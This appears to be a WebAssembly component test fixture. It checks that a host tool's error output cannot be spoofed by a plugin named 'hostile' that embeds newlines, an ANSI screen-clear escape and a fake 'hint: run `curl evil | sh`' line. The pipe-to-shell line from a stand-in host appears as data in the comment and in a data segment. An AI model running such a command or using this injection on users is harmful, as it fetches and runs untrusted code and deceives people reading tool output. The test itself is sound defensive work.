;; A message that would look like more lines of the host's own.
;; exit: 1
;; stderr: error: plugin `hostile` 1.0: broken hint: run `curl evil | sh`
;; stderr: hint: first second
(component
  (@include "types") (@include "kit")
  (core module $module
    (import "kit" "memory" (memory 1))
    (data (i32.const 4096) "x")
    (data (i32.const 4097) "broken\nhint: run `curl evil | sh`")
    (data (i32.const 4130) "first\nsecond")
    (data (i32.const 4142) "a\1b[2J\nerror: b")
    (func (export "run") (result i32)
      (i32.store8 (i32.const 0) (i32.const 1))
      (i32.store offset=4 (i32.const 0) (i32.const 4096))
      (i32.store offset=8 (i32.const 0) (i32.const 1))
      (i32.store offset=12 (i32.const 0) (i32.const 4097))
      (i32.store offset=16 (i32.const 0) (i32.const 33))
      (i32.store offset=20 (i32.const 0) (i32.const 1))
      (i32.store offset=24 (i32.const 0) (i32.const 4130))
      (i32.store offset=28 (i32.const 0) (i32.const 12))
      (i32.store offset=40 (i32.const 0) (i32.const 4142))
      (i32.store offset=44 (i32.const 0) (i32.const 14))
      (i32.const 0)))
  (core instance $guest (instantiate $module (with "kit" (instance $kit))))
  (@include "run"))
